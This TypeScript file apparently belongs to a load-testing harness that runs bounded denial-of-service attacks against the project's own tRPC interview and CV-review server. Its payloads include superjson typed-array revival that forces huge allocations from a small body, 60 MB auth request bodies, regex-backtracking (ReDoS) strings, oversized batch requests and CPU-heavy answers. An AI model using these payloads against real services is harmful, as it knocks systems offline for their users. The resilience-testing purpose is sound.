/** Denial-of-service attacks by one client. Each ends by itself. */
import { MINIMUM_WORDS } from '@/domain/cv-review/minimum-words'
import type { Person } from './people'
import { type Call, send } from './send'

export type Target = { url: string; attacker: Person; endsAt: number }
export type Attack = {
  name: string
  /** Requests, sent in turn: `parallel` at a time, at most `times` in total, with `pauseMs` after each. */
  calls: (attacker: Person) => Call[]
  parallel: number
  times: number
  pauseMs: number
  /** Whether the server has a language model, whose texts are prepared by additional rules. */
  hasModel?: boolean
}

const MB = 1024 * 1024
const trpc = (procedure: string, { cookie }: Person, input: unknown): Call => ({
  method: 'POST',
  path: `/api/trpc/${procedure}`,
  cookie,
  body: JSON.stringify({ json: input }),
})

/** Makes superjson revive arrays of 100 million numbers each, in a body of about 39 KB. */
function typedArrays(): Call {
  const keys = Array.from({ length: 800 }, (_, n) => n.toString(36))
  const json = Object.fromEntries(keys.map((key) => [key, 1e8]))
  const values = Object.fromEntries(keys.map((key) => [key, [['typed-array', 'Float64Array']]]))
  return { method: 'POST', path: '/api/trpc/auth.login', body: JSON.stringify({ json, meta: { values } }) }
}

const bigBody = (path: string, bytes: number): Call => ({
  method: 'POST',
  path,
  body: `{"email":"a@example.com","password":"${'x'.repeat(bytes)}"}`,
})

/** A batch with as many reads as fit into a request line. */
function batch({ interviewId, cookie }: Person, size = 170): Call {
  const names = Array.from({ length: size }, () => 'interview.get').join(',')
  const input = JSON.stringify(
    Object.fromEntries(Array.from({ length: size }, (_, n) => [n, { json: { id: interviewId } }])),
  )
  return { path: `/api/trpc/${names}?batch=1&input=${input}`, cookie }
}

/** Inputs that trigger quadratic backtracking in regular expressions (ReDoS). */
const LETTERS = 'a'.repeat(199_900)
const SIGNS = '+'.repeat(199_000)
/** The minimum number of words for a review. */
const WORDS = 'work '.repeat(MINIMUM_WORDS.cv.words)
const ADVERT =
  'We look for a software engineer who knows TypeScript, PostgreSQL and Docker and who can explain it. '.repeat(3)

const start = (attacker: Person, texts: { cvContent?: string; jobDescription?: string }) =>
  trpc('interview.create', attacker, { userId: attacker.id, role: 'software-engineer', ...texts })
const review = (attacker: Person, cvContent: string) =>
  trpc('cvReview.create', attacker, { userId: attacker.id, cvContent, jobDescription: ADVERT })

export const ATTACKS: readonly Attack[] = [
  { name: '1 typed arrays in meta', calls: () => [typedArrays()], parallel: 2, times: 30, pauseMs: 250 },
  {
    name: '2 bodies of 60 MB',
    calls: () => [bigBody('/api/auth/callback/credentials', 60 * MB), bigBody('/api/auth/_log', 60 * MB)],
    parallel: 2,
    times: 8,
    pauseMs: 1_500,
  },
  {
    name: '6 quadratic expressions',
    calls: (attacker) => [
      start(attacker, { cvContent: LETTERS }),
      start(attacker, { cvContent: SIGNS }),
      start(attacker, { jobDescription: LETTERS.slice(0, 49_900) }),
      review(attacker, `${WORDS}${SIGNS}`),
      review(attacker, `${WORDS}${LETTERS.slice(WORDS.length)}`),
    ],
    parallel: 2,
    times: 15,
    pauseMs: 300,
    hasModel: true,
  },
  { name: '8 batches of 170 reads', calls: (attacker) => [batch(attacker)], parallel: 8, times: 40, pauseMs: 0 },
  // Last, since its jobs may still be running when the next server starts.
  {
    name: '7 answers that cost CPU time',
    calls: (attacker) => [
      {
        ...trpc('interview.complete', attacker, {
          id: attacker.interviewId,
          answers: [{ questionId: attacker.questionIds[0], text: COSTLY_ANSWER, timeSpent: 1 }],
        }),
      },
      ...attacker.questionIds
        .slice(1, 7)
        .map((questionId) =>
          trpc('interview.retakeAnswer', attacker, { id: attacker.interviewId, questionId, text: COSTLY_ANSWER }),
        ),
    ],
    parallel: 2,
    times: 30,
    pauseMs: 100,
  },
]

/** An answer of 49,800 characters. */
export const COSTLY_ANSWER = 'but a '.repeat(8_300)

/** Runs an attack to its last request or its end time. @returns the count of each response status */
export async function attack(
  target: Target,
  { calls, parallel, times, pauseMs }: Attack,
): Promise<Record<number, number>> {
  const made = calls(target.attacker)
  const statuses: Record<number, number> = {}
  let sent = 0
  const one = async () => {
    while (sent < times && Date.now() < target.endsAt) {
      const call = made[sent % made.length] as Call
      sent += 1
      const status = await send(target.url, call, 120_000)
      statuses[status] = (statuses[status] ?? 0) + 1
      await new Promise((resolve) => setTimeout(resolve, pauseMs))
    }
  }
  await Promise.all(Array.from({ length: parallel }, one))
  return statuses
}
